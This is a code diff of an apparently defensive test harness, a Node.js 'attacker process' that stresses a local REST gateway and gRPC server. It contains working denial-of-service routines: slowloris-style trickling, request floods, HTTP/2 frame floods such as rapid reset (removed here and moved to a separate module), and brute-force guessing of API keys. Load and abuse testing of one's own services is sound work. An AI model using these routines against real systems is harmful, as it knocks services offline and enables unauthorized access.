@@ -1,49 +1,38 @@
 /**
  * A hostile client in a process of its own, so that it takes no time of the good one beside it:
- * `node attacker-process.ts ATTACK REST_PORT GRPC_PORT MILLISECONDS`. Prints how much it did as JSON.
+ * `node attacker-process.ts ATTACK REST_PORT GRPC_PORT MILLISECONDS KEY CONNECTIONS`. Prints how much it did as JSON.
  */
 import http2 from 'node:http2';
 import net from 'node:net';
+import { PREFACE, settings } from '../wire/frames.ts';
+import { wireAttacks } from './wire-attacks.ts';
 
-const [attack = '', rest = '', grpc = '', ms = ''] = process.argv.slice(2);
+const [attack = '', rest = '', grpc = '', ms = '', key = '', connections = '0'] = process.argv.slice(2);
 const REST = Number(rest);
 const GRPC = Number(grpc);
 const end = performance.now() + Number(ms);
 const isOver = (): boolean => performance.now() >= end;
 const pause = (time: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, time));
 let done = 0;
+const HELLO = Buffer.concat([PREFACE, settings()]);
 
 function open(port: number, onOpen: (socket: net.Socket) => void = () => undefined): net.Socket {
   const socket = net.connect(port, '127.0.0.1', () => onOpen(socket));
   return socket.on('error', () => undefined).resume();
 }
 
-function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head.writeUInt8(type, 3);
-  head.writeUInt8(flags, 4);
-  head.writeUInt32BE(stream, 5);
-  return Buffer.concat([head, payload]);
-}
-const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)]);
-/** :method POST, :scheme http, :path /, content-type application/grpc, te trailers. */
-const HEADERS = Buffer.concat([
-  Buffer.from([0x83, 0x86, 0x84, 0x00, 12]),
-  Buffer.from('content-type'),
-  Buffer.from([16]),
-  Buffer.from('application/grpc'),
-  Buffer.from([0x00, 2]),
-  Buffer.from('te'),
-  Buffer.from([8]),
-  Buffer.from('trailers'),
-]);
-
 /** Connections that are made anew when they are cut, each written to as fast as it takes it. */
-async function flood(port: number, connections: number, first: Buffer, next: () => Buffer): Promise<void> {
+async function flood(
+  port: number,
+  connections: number,
+  first: Buffer,
+  next: () => Buffer,
+  reads = true,
+): Promise<void> {
   const lane = async (): Promise<void> => {
     while (!isOver()) {
       const socket = open(port, (opened) => opened.write(first));
+      if (!reads) socket.pause();
       while (!socket.destroyed && !isOver()) {
         done++;
         if (socket.connecting || socket.write(next())) await pause(socket.connecting ? 1 : 0);
@@ -61,8 +50,13 @@ async function flood(port: number, connections: number, first: Buffer, next: () 
   await Promise.all(Array.from({ length: connections }, lane));
 }
 
-/** Connections that send a byte now and then. */
-async function trickle(port: number, connections: number, first: string, byte: string): Promise<void> {
+/** Connections that send a little now and then. */
+async function trickle(
+  port: number,
+  connections: number,
+  first: string | Buffer,
+  piece: () => string | Buffer,
+): Promise<void> {
   const sockets = new Set<net.Socket>();
   while (!isOver()) {
     for (const socket of sockets) if (socket.destroyed) sockets.delete(socket);
@@ -70,14 +64,14 @@ async function trickle(port: number, connections: number, first: string, byte: s
       sockets.add(open(port, (socket) => socket.write(first)));
       done++;
     }
-    for (const socket of sockets) if (!socket.connecting) socket.write(byte);
+    for (const socket of sockets) if (!socket.connecting) socket.write(piece());
     await pause(200);
   }
   for (const socket of sockets) socket.destroy();
 }
 
 /** Connections that are made and left. */
-async function come(port: number, atOnce: number, first: string): Promise<void> {
+async function come(port: number, atOnce: number, first: string | Buffer): Promise<void> {
   const lane = async (): Promise<void> => {
     while (!isOver()) {
       const socket = open(port, (opened) => opened.end(first));
@@ -130,18 +124,18 @@ async function guessGrpc(): Promise<void> {
 const QUESTION = JSON.stringify({ email: 'ann@example.com', app: 'shop', permission: 'read' });
 const encode = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
 
-let stream = -1;
 const ATTACKS: Record<string, () => Promise<void>> = {
-  'headers that never end': () => trickle(REST, 400, 'POST /api/check HTTP/1.1\r\nHost: x\r\n', 'X-a: b\r\n'),
+  'nothing, for comparison': () => pause(end - performance.now()),
+  'headers that never end': () => trickle(REST, 400, 'POST /api/check HTTP/1.1\r\nHost: x\r\n', () => 'X-a: b\r\n'),
   'bodies that never end': () =>
     trickle(
       REST,
       400,
       'POST /api/idp/notifications/email HTTP/1.1\r\nHost: x\r\nidp-signature: t=1,v1=a\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n',
-      ' ',
+      () => ' ',
     ),
-  'prefaces that never end': () => trickle(GRPC, 400, 'PRI * HTTP', ''),
-  'sessions that say nothing': () => trickle(GRPC, 400, PREFACE.toString('latin1'), ''),
+  'prefaces that never end': () => trickle(GRPC, 400, 'PRI * HTTP', () => ''),
+  'sessions that say nothing': () => trickle(GRPC, 400, HELLO, () => ''),
   'huge bodies': () =>
     flood(
       REST,
@@ -162,32 +156,8 @@ const ATTACKS: Record<string, () => Promise<void>> = {
     ),
   'requests without an end of them': () =>
     flood(REST, 2, Buffer.alloc(0), () => Buffer.from('GET /nothing HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(20))),
-  'rapid resets': () =>
-    flood(GRPC, 2, PREFACE, () => {
-      const frames: Buffer[] = [];
-      for (let n = 0; n < 50; n++) {
-        stream += 2;
-        frames.push(frame(1, 4, stream, HEADERS), frame(3, 0, stream, Buffer.from([0, 0, 0, 8])));
-      }
-      return Buffer.concat(frames);
-    }),
-  pings: () =>
-    flood(GRPC, 2, PREFACE, () => Buffer.concat(Array.from({ length: 200 }, () => frame(6, 0, 0, Buffer.alloc(8))))),
-  settings: () => flood(GRPC, 2, PREFACE, () => Buffer.concat(Array.from({ length: 200 }, () => frame(4, 0, 0)))),
-  'window updates': () =>
-    flood(GRPC, 2, PREFACE, () =>
-      Buffer.concat(Array.from({ length: 200 }, () => frame(8, 0, 0, Buffer.from([0, 0, 0, 1])))),
-    ),
-  continuations: () =>
-    flood(GRPC, 2, Buffer.concat([PREFACE, frame(1, 0, 1, HEADERS)]), () =>
-      Buffer.concat(Array.from({ length: 100 }, () => frame(9, 0, 1, Buffer.from([0x40, 1, 97, 1, 98])))),
-    ),
-  'empty frames': () =>
-    flood(GRPC, 2, Buffer.concat([PREFACE, frame(1, 4, 1, HEADERS)]), () =>
-      Buffer.concat(Array.from({ length: 500 }, () => frame(0, 0, 1))),
-    ),
   'connections to the gateway': () => come(REST, 50, 'GET / HTTP/1.1\r\nHost: x\r\n\r\n'),
-  'connections to gRPC': () => come(GRPC, 50, PREFACE.toString('latin1')),
+  'connections to gRPC': () => come(GRPC, 50, HELLO),
   'guessed keys': () => guess('/api/check', () => ({ 'x-internal-api-key': `guess-${Math.random()}` }), QUESTION),
   'unknown keys of tokens': () =>
     guess(
@@ -199,6 +169,18 @@ const ATTACKS: Record<string, () => Promise<void>> = {
       QUESTION,
     ),
   'guessed keys by gRPC': guessGrpc,
+  ...wireAttacks({
+    port: GRPC,
+    key,
+    connections: Number(connections),
+    isOver,
+    pause,
+    count: () => {
+      done++;
+    },
+    flood,
+    trickle,
+  }),
 };
 
 const run = ATTACKS[attack];
